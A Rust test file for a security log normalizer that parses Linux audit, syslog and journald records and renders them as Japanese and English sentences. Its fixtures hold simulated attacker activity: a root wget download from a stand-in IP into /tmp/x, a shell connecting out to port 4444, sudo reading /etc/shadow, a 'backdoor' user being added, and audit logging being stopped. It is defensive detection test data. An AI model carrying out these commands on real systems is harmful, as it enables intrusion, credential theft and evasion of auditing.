//! The Linux audit system: records of one act know of each other, in all the forms they arrive in.

use crate::common;
use arrow::array::Array;
use common::{describe, fields, normalizer, run};
use yagura_event::{EventBatch, Lang};

/// One act: root's shell runs wget, after `tanaka` became root.
const ACT: [&str; 6] = [
    "type=SYSCALL msg=audit(1795252502.155:92733): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55e0 a2=55f0 a3=0 items=2 ppid=2101 pid=2214 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"wget\" exe=\"/usr/bin/wget\" subj=unconfined key=\"susp_activity\"\u{1d}ARCH=x86_64 SYSCALL=execve AUID=\"tanaka\" UID=\"root\" GID=\"root\" EUID=\"root\"",
    "type=EXECVE msg=audit(1795252502.155:92733): argc=4 a0=\"wget\" a1=\"-O\" a2=\"/tmp/x\" a3=687474703A2F2F3139382E35312E3130302E372F61206223",
    "type=CWD msg=audit(1795252502.155:92733): cwd=\"/root\"",
    "type=PATH msg=audit(1795252502.155:92733): item=0 name=\"tool/x\" inode=131 dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE cap_fp=0",
    "type=PROCTITLE msg=audit(1795252502.155:92733): proctitle=77676574002D4F002F746D702F78",
    "type=EOE msg=audit(1795252502.155:92733): ",
];

fn read(lines: &[&str]) -> (yagura_normalize::Normalizer, EventBatch) {
    let mut normalizer = normalizer();
    normalizer.normalize(&run(lines.iter().copied()));
    let mut batches = normalizer.take_batches();
    assert_eq!(batches.len(), 1);
    let batch = batches.remove(0);
    assert_eq!((&*batch.dataset, batch.rows()), ("linux.auditd", lines.len()));
    (normalizer, batch)
}

fn value(batch: &EventBatch, row: usize, column: &str) -> String {
    let Some(column) = batch.columns.column_by_name(column) else { return String::new() };
    match column.is_null(row) {
        true => String::new(),
        false => arrow::util::display::array_value_to_string(column, row).unwrap(),
    }
}

#[test]
fn later_records_of_an_act_know_what_earlier_ones_said() {
    let (normalizer, batch) = read(&ACT);
    for (row, _) in ACT.iter().enumerate().skip(1) {
        for (column, expected) in [
            ("process.executable", "/usr/bin/wget"),
            ("process.name", "wget"),
            ("process.pid", "2214"),
            ("process.parent.pid", "2101"),
            ("user.id", "1000"),
            ("user.name", "tanaka"),
            ("user.effective.id", "0"),
            ("user.effective.name", "root"),
            ("event.outcome", "success"),
            ("process.command_line", "wget -O /tmp/x http://198.51.100.7/a b#"),
        ] {
            assert_eq!(value(&batch, row, column), expected, "{column} of {}", ACT[row]);
        }
        // The records' own fields stay theirs, so that a rule on them sees one record.
        assert_eq!(value(&batch, row, "auditd.key"), "");
    }
    assert_eq!(value(&batch, 1, "process.args"), "wget, -O, /tmp/x, http://198.51.100.7/a b#");
    assert_eq!(value(&batch, 1, "auditd.a3"), "http://198.51.100.7/a b#");
    assert_eq!(value(&batch, 3, "file.path"), "/root/tool/x");
    assert_eq!(value(&batch, 4, "process.title"), "wget -O /tmp/x");
    let sentences: Vec<String> = (0..ACT.len())
        .flat_map(|row| [Lang::Ja, Lang::En].map(|lang| normalizer.sentence(&batch, row, lang)))
        .collect();
    insta::assert_snapshot!(sentences.join("\n"), @r"
    tanaka がこのホストで /usr/bin/wget を実行した（execve）（鍵 susp_activity）（成功）
    tanaka ran /usr/bin/wget on this host (execve) (key susp_activity) (success)
    tanaka がこのホストで root として実行した：wget -O /tmp/x http://198.51.100.7/a b#
    tanaka ran as root on this host: wget -O /tmp/x http://198.51.100.7/a b#
    tanaka の操作はこのホストの /root で行われた（/usr/bin/wget）
    What tanaka did on this host was done in /root with /usr/bin/wget
    tanaka がこのホストで /root/tool/x を作成した（/usr/bin/wget）（成功）
    tanaka created /root/tool/x on this host with /usr/bin/wget (success)
    tanaka の操作はこのホストの次のコマンドによる：wget -O /tmp/x
    What tanaka did on this host came from: wget -O /tmp/x
    このホストの一つの操作の監査記録がここで終わる
    The audit records of one act on this host end here
    ");
}

#[test]
fn a_parent_that_was_seen_running_is_named() {
    let child =
        ACT[0].replace("92733", "92734").replace("ppid=2101 pid=2214", "ppid=2214 pid=2300");
    let (_, batch) = read(&[ACT[0], ACT[1], &child]);
    assert_eq!(value(&batch, 2, "process.parent.executable"), "/usr/bin/wget");
    assert_eq!(
        value(&batch, 2, "process.parent.command_line"),
        "wget -O /tmp/x http://198.51.100.7/a b#"
    );
}

#[test]
fn acts_of_two_hosts_do_not_mix() {
    let other = |line: &str| format!("node=db1 {line}");
    let first = other(ACT[0]).replace("/usr/bin/wget", "/usr/bin/curl");
    let (_, batch) = read(&[ACT[0], &first, ACT[1], &other(ACT[1])]);
    assert_eq!(value(&batch, 2, "process.executable"), "/usr/bin/wget");
    assert_eq!(value(&batch, 3, "process.executable"), "/usr/bin/curl");
    assert_eq!(value(&batch, 3, "host.name"), "db1");
}

#[test]
fn every_form_of_a_record_is_read() {
    let plain = "arch=c00000b7 syscall=203 success=no exit=-111 ppid=1 pid=7 auid=4294967295 uid=33 euid=33 comm=\"php\" exe=\"/usr/bin/php\" key=(null)";
    for line in [
        format!("type=SYSCALL msg=audit(1795252502.155:7): {plain}"),
        format!("node=web01 type=SYSCALL msg=audit(1795252502.155:7): {plain}"),
        format!(
            "<13>Nov 21 09:15:02 web01 audispd: type=SYSCALL msg=audit(1795252502.155:7): {plain}"
        ),
        format!(
            "<5>Nov 21 09:15:02 web01 kernel: [   12.345678] audit: type=1300 audit(1795252502.155:7): {plain}"
        ),
        format!(
            "<5>Nov 21 09:15:02 web01 kernel: audit: type=1300 audit(1795252502.155:7): {plain}"
        ),
        format!("<5>Nov 21 09:15:02 web01 audit[7]: SYSCALL {plain}"),
    ] {
        let read = describe(line.as_str());
        let field = |name: &str| {
            read.fields.iter().find(|(known, _)| known == name).map_or("", |(_, value)| value)
        };
        assert_eq!(read.dataset, "linux.auditd", "{line}");
        assert!(read.timestamp.to_string().starts_with("2026-11-21T09:15:02"), "{line}");
        assert_eq!(
            (field("auditd.type"), field("event.action"), field("auditd.exit_name")),
            ("SYSCALL", "connect", "ECONNREFUSED"),
            "{line}"
        );
        assert_eq!((field("user.id"), field("user.name")), ("33", ""), "{line}");
        assert_eq!(field("event.outcome"), "failure", "{line}");
    }
}

#[test]
fn records_of_programs_read_well() {
    let records = [
        "type=USER_LOGIN msg=audit(1795252502.155:1): pid=900 uid=0 auid=1000 ses=3 msg='op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=192.0.2.10 addr=192.0.2.10 terminal=/dev/pts/0 res=success'",
        "type=USER_AUTH msg=audit(1795252502.155:2): pid=901 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=? acct=\"suzuki\" exe=\"/usr/sbin/sshd\" hostname=192.0.2.66 addr=192.0.2.66 terminal=ssh res=failed'",
        "type=ADD_USER msg=audit(1795252502.155:3): pid=902 uid=0 auid=1000 ses=3 msg='op=adding user acct=\"backdoor\" exe=\"/usr/sbin/useradd\" hostname=web01 addr=? terminal=pts/0 res=success'",
        "type=USER_CMD msg=audit(1795252502.155:4): pid=903 uid=1000 auid=1000 ses=3 msg='cwd=\"/home/tanaka\" cmd=636174202F6574632F736861646F77 exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'",
        "type=SERVICE_STOP msg=audit(1795252502.155:5): pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=auditd comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'",
        "type=AVC msg=audit(1795252502.155:6): avc:  denied  { read } for  pid=904 comm=\"httpd\" name=\"shadow\" dev=\"dm-0\" ino=5 scontext=system_u:system_r:httpd_t:s0 tcontext=system_u:object_r:shadow_t:s0 tclass=file permissive=0",
        "type=CONFIG_CHANGE msg=audit(1795252502.155:7): auid=1000 ses=3 op=remove_rule key=\"watch\" list=4 res=1",
        "type=DAEMON_END msg=audit(1795252502.155:8): op=terminate auid=1000 pid=905 subj=unconfined res=success",
    ];
    let sentences: Vec<String> = records
        .iter()
        .map(|record| describe(*record))
        .flat_map(|read| [read.sentence_ja, read.sentence_en])
        .collect();
    insta::assert_snapshot!(sentences.join("\n"), @r"
    1000 が 192.0.2.10 からこのホストにログオンした（sshd）（成功）
    1000 logged on to this host from 192.0.2.10 with sshd (success)
    suzuki がこのホストで認証を受けた（sshd）（接続元 192.0.2.66）（失敗）
    suzuki authenticated on this host with sshd from 192.0.2.66 (failure)
    1000 がこのホストに利用者 backdoor を作成した（成功）
    1000 added the user backdoor on this host (success)
    1000 がこのホストで sudo により実行した：cat /etc/shadow（成功）
    1000 ran with sudo on this host: cat /etc/shadow (success)
    このホストでサービス auditd が停止した（成功）
    The service auditd stopped on this host (success)
    このホストの SELinux が httpd による file shadow への read を判定した（拒否）
    SELinux on this host decided about read by httpd on file shadow (denied)
    1000 がこのホストの監査の設定を変更した：remove_rule（鍵 watch）（成功）
    1000 changed the audit configuration of this host: remove_rule (key watch) (success)
    1000 がこのホストの監査の記録を止めた（成功）
    1000 stopped auditing on this host (success)
    ");
}

#[test]
fn a_connection_names_its_end() {
    let syscall = "type=SYSCALL msg=audit(1795252502.155:9): arch=c000003e syscall=42 success=no exit=-115 pid=7 auid=1000 uid=1000 comm=\"bash\" exe=\"/usr/bin/bash\"";
    let address =
        "type=SOCKADDR msg=audit(1795252502.155:9): saddr=0200115CC63364070000000000000000";
    let (normalizer, batch) = read(&[syscall, address]);
    assert_eq!(value(&batch, 1, "destination.ip"), "198.51.100.7");
    assert_eq!(value(&batch, 1, "destination.port"), "4444");
    insta::assert_snapshot!(normalizer.sentence(&batch, 1, Lang::Ja), @"1000 の /usr/bin/bash がこのホストから 198.51.100.7 の 4444 番ポートに接続した");
}

#[test]
fn the_journals_export_format_is_read_like_syslog() {
    let entry = "__CURSOR=s=0a1b;i=2f;b=c3\n__REALTIME_TIMESTAMP=1795252502417000\n_BOOT_ID=c3\n_HOSTNAME=web01\nPRIORITY=6\nSYSLOG_FACILITY=4\nSYSLOG_IDENTIFIER=sshd\n_PID=4242\n_SYSTEMD_UNIT=ssh.service\nMESSAGE=Failed password for root from 192.0.2.66 port 50022 ssh2\n";
    let read = describe(entry);
    assert_eq!(read.dataset, "linux.auth");
    insta::assert_snapshot!(fields(&read), @r"
    @timestamp = 2026-11-21T09:15:02.417000Z
    __CURSOR = s=0a1b;i=2f;b=c3
    __REALTIME_TIMESTAMP = 1795252502417000
    _BOOT_ID = c3
    _SYSTEMD_UNIT = ssh.service
    log.syslog.facility.code = 4
    log.syslog.severity.code = 6
    log.level = informational
    host.name = web01
    process.name = sshd
    process.pid = 4242
    user.name = root
    source.ip = 192.0.2.66
    source.port = 50022
    event.action = ssh_login
    event.outcome = failure
    message = Failed password for root from 192.0.2.66 port 50022 ssh2
    activity_id = 1
    class_uid = 3002
    event.category = authentication
    status_id = 2
    ");
    let json = r#"{"__CURSOR":"s=0a1b","__REALTIME_TIMESTAMP":"1795252502417000","_HOSTNAME":"web01","PRIORITY":"3","SYSLOG_IDENTIFIER":"myapp","_PID":"7","MESSAGE":"disk is full"}"#;
    let read = describe(json);
    assert_eq!(read.dataset, "linux.syslog");
    insta::assert_snapshot!(format!("{} {}", read.timestamp, read.sentence_ja), @"2026-11-21T09:15:02.417000Z web01 の myapp の記録（エラー）：disk is full");
}
